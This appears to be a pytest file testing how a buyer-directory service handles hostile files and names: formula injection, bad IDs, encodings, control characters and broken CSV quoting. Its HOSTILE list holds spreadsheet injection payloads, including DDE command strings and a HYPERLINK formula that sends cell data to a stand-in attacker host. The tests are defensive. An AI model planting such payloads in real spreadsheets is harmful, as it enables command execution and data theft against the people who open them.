"""Issue 14, hostile buyer files and names: formula injection (defect 5), 500s on ids,
renames, control characters and encodings (defect 10), '#' names lost on re-import
(defect 16), an unbalanced CSV quote hiding the rows after it (defect 19)."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy import update

from export_assist.matching.directory import BuyerDirectory
from export_assist.matching.io import export_buyers, import_buyers
from export_assist.matching.readers import UNCLOSED_QUOTE
from export_assist.matching.scope import PUBLIC, BuyerScope
from export_assist.storage.buyer_tables import BuyerRow
from tests.auth.fixtures import Keys
from tests.matching.conftest import buyer, run_import

OPERATOR = BuyerScope.operator()
HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
]


def _names(directory: BuyerDirectory) -> list[str]:
    return sorted(b.name for b in directory.all(OPERATOR))


def test_defect5_formula_injection_is_escaped_in_csv_and_xlsx(directory: BuyerDirectory) -> None:
    directory.upsert_many(
        [buyer(f"{n} {i}", "US", city=n[:100]) for i, n in enumerate(HOSTILE)], owner=PUBLIC
    )
    rows = list(csv.reader(io.StringIO(export_buyers(directory.all(OPERATOR), "csv").decode())))
    cells = [c for row in rows[1:] for c in row[:4] if c]
    assert cells and all(not c.startswith(("=", "+", "-", "@", "\t")) for c in cells), cells
    book = load_workbook(io.BytesIO(export_buyers(directory.all(OPERATOR), "xlsx")))
    values = [c for row in book.worksheets[0].iter_rows() for c in row if c.value]
    assert all(c.data_type != "f" for c in values)  # no live formula anywhere
    names = [c.value for c in values if isinstance(c.value, str) and "cmd" in c.value]
    assert names and all(str(n).startswith("'") for n in names)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_defect5_escaped_export_reimports_to_the_same_names(
    directory: BuyerDirectory, fmt: str
) -> None:
    directory.upsert_many([buyer(n, "US") for n in HOSTILE], owner=PUBLIC)
    before = _names(directory)
    report = import_buyers(
        directory, export_buyers(directory.all(OPERATOR), fmt), fmt, owner=PUBLIC
    )
    assert report.ok and report.created == 0 and report.updated == len(HOSTILE)
    assert _names(directory) == before


def test_defect10_ids_and_offsets_out_of_range_are_422(
    client: TestClient, keys: Keys, directory: BuyerDirectory
) -> None:
    h = keys.headers("advisor")
    huge = 2**70
    assert client.get(f"/v1/buyers/{huge}", headers=h).status_code == 422
    assert client.delete(f"/v1/buyers/{huge}", headers=h).status_code == 422
    body = {"name": "X Co", "country": "US"}
    assert client.put(f"/v1/buyers/{huge}", json=body, headers=h).status_code == 422
    assert client.get(f"/v1/buyers?offset={huge}", headers=h).status_code == 422
    assert client.get("/v1/buyers/0", headers=h).status_code == 422
    assert client.get("/v1/buyers?offset=2147483647", headers=h).status_code == 200


def test_defect10_rename_onto_an_existing_buyer_is_409(
    client: TestClient, keys: Keys, directory: BuyerDirectory
) -> None:
    h = keys.headers("advisor")
    a = client.post("/v1/buyers", json={"name": "Alpha Co", "country": "US"}, headers=h).json()
    b = client.post("/v1/buyers", json={"name": "Beta Co", "country": "US"}, headers=h).json()
    r = client.put(
        f"/v1/buyers/{b['buyer']['id']}", json={"name": "ALPHA CO.", "country": "US"}, headers=h
    )
    assert r.status_code == 409 and str(a["buyer"]["id"]) in r.json()["error"]["message"]
    same = client.put(
        f"/v1/buyers/{a['buyer']['id']}", json={"name": "Alpha Co", "country": "US"}, headers=h
    )
    assert same.status_code == 200  # renaming onto itself is no conflict


def test_defect10_a_control_character_in_a_name_never_breaks_xlsx_export(
    client: TestClient, keys: Keys, directory: BuyerDirectory
) -> None:
    h = keys.headers("advisor")
    r = client.post("/v1/buyers", json={"name": "Bad\x01Name\x0b Co", "country": "US"}, headers=h)
    assert r.status_code == 201 and r.json()["buyer"]["name"] == "Bad Name Co"
    # A row stored before validation cleaned names (an old database) must not break it either.
    buyer_id = r.json()["buyer"]["id"]
    with directory._sessions.begin() as session:  # the edge is bypassed on purpose
        session.execute(
            update(BuyerRow).where(BuyerRow.id == buyer_id).values(name="Old\x00\x1fCo")
        )
    x = client.get("/v1/buyers/export?format=xlsx", headers=h)
    assert x.status_code == 200
    cells = [
        c
        for row in load_workbook(io.BytesIO(x.content)).worksheets[0].iter_rows(values_only=True)
        for c in row
    ]
    assert "OldCo" in cells


@pytest.mark.parametrize(
    ("encoding", "bom"),
    [
        ("shift_jis", b""),
        ("cp932", b""),
        ("latin-1", b""),
        ("utf-16-le", b"\xff\xfe"),
        ("utf-16-be", b"\xfe\xff"),
        ("utf-8", b"\xef\xbb\xbf"),
    ],
)
def test_defect10_csv_in_other_encodings_imports(
    directory: BuyerDirectory, encoding: str, bom: bytes
) -> None:
    if encoding in ("shift_jis", "cp932"):
        rows = [("株式会社テスト商事", "JP", "東京"), ("山田食品株式会社", "JP", "大阪")]
    else:
        rows = [
            ("Müller Feinkost GmbH", "DE", "München"),
            ("Café Crème SARL", "FR", "Paris"),
            ("Søren Ærø Handel", "DK", "Århus"),
        ]
    text = "name,country,city\n" + "".join(f"{n},{c},{city}\n" for n, c, city in rows)
    report = import_buyers(directory, bom + text.encode(encoding), "csv", owner=PUBLIC)
    assert report.ok and report.created == len(rows), report
    stored = {(b.name, b.city) for b in directory.all(OPERATOR)}
    assert stored == {(n, city) for n, _, city in rows}


def test_defect10_utf16_without_bom_and_undecodable_rows(directory: BuyerDirectory) -> None:
    text = "name,country\nÅkesson Import AB,SE\nNordic Tea Oy,FI\n"
    assert import_buyers(directory, text.encode("utf-16-le"), "csv", owner=PUBLIC).created == 2
    # A UTF-8 file with one corrupt row: that row is reported, the others keep their accents.
    broken = "name,country\nMüller Tee GmbH,DE\n".encode() + b"Bad \xff Co,US\n"
    broken += "Crème Café SARL,FR\n".encode()
    report = import_buyers(directory, broken, "csv", owner=PUBLIC)
    assert [(r.line, r.reason) for r in report.rejected] == [
        (3, "this row is not valid utf-8 text")
    ]
    assert {"Müller Tee GmbH", "Crème Café SARL"} <= set(_names(directory))


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_defect16_names_starting_with_hash_survive_a_reimport(
    directory: BuyerDirectory, fmt: str
) -> None:
    from export_assist.matching.sample import generate

    directory.upsert_many(generate(3, seed=1), owner=PUBLIC)  # fictitious: the file gets a notice
    directory.upsert_many(
        [buyer("#1 Tea Traders", "US"), buyer("# Hash Foods", "DE")], owner=PUBLIC
    )
    data = export_buyers(directory.all(OPERATOR), fmt)
    directory.delete(
        next(b.id for b in directory.all(OPERATOR) if b.name == "#1 Tea Traders"), OPERATOR
    )
    report = import_buyers(directory, data, fmt, owner=PUBLIC)
    assert report.ok and report.rows == 5 and report.created == 1
    assert {"#1 Tea Traders", "# Hash Foods"} <= set(_names(directory))


def test_defect19_an_unbalanced_quote_is_reported_and_the_next_rows_kept(
    directory: BuyerDirectory,
) -> None:
    text = (
        "name,country,interests\n"
        '"Broken Quote Co,US,tea\n'
        "Good One Ltd,DE,tea\n"
        "Good Two SARL,FR,tea\n"
        'Multi Line Inc,US,"green tea;\nmatcha"\n'
        'Also "Fine" Co,GB,tea\n'
    )
    report = import_buyers(directory, text.encode(), "csv", owner=PUBLIC)
    assert [(r.line, r.reason) for r in report.rejected] == [(2, UNCLOSED_QUOTE)]
    assert set(_names(directory)) == {
        "Good One Ltd",
        "Good Two SARL",
        "Multi Line Inc",
        'Also "Fine" Co',
    }
    multi = next(b for b in directory.all(OPERATOR) if b.name == "Multi Line Inc")
    assert multi.interests == ["green tea", "matcha"]


def test_defect19_a_quote_left_open_at_the_end_is_reported(directory: BuyerDirectory) -> None:
    report = import_buyers(directory, b'name,country\nGood Co,US\n"Open,US\n', "csv", owner=PUBLIC)
    assert report.created == 1 and [r.line for r in report.rejected] == [3]


def test_hostile_uploads_through_the_api_are_4xx(
    client: TestClient, keys: Keys, directory: BuyerDirectory
) -> None:
    h = keys.headers("advisor")
    empty = client.post("/v1/buyers/import", files={"file": ("b.csv", b"")}, headers=h)
    assert empty.status_code == 422 and "empty" in empty.json()["error"]["message"]
    job = run_import(client, h, b"\n\n", "b.csv")
    assert job["status"] == "failed" and "header" in job["error"]
    job = run_import(client, h, b"not a zip", "b.xlsx")
    assert job["status"] == "failed" and "XLSX" in job["error"]
    deep: Any = "[" * 100_000 + "]" * 100_000
    job = run_import(client, h, deep.encode(), "b.json")
    assert job["status"] == "failed" and "JSON" in job["error"]
    wrong = client.post("/v1/buyers/import", headers=h, files={"other": ("b.csv", b"name\nX\n")})
    assert wrong.status_code == 422 and "'file'" in wrong.json()["error"]["message"]
